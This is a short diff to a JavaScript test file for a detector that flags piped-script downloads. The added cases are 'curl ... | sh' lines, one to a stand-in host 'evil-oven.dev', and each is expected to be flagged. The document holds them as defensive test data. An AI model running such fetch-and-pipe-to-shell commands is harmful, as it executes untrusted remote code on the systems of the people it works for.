@@ -156,6 +156,14 @@ test.each(['os.system("curl " + url + " | sh")', 'run(f"curl -s {url} | sh")'])(
   },
 )
 
+test.each([
+  'curl https://oven.dev/a?evil | sh',
+  'curl https://evil-oven.dev/a | sh',
+  'curl https://oven.dev/a -e http://example.com/ | sh',
+])('a real host beside a stand-in: %s', text => {
+  expect(codes('a.sh', text)).toEqual(['piped-script'])
+})
+
 test('forty files are planted', () => {
   expect(planted).toHaveLength(40)
 })
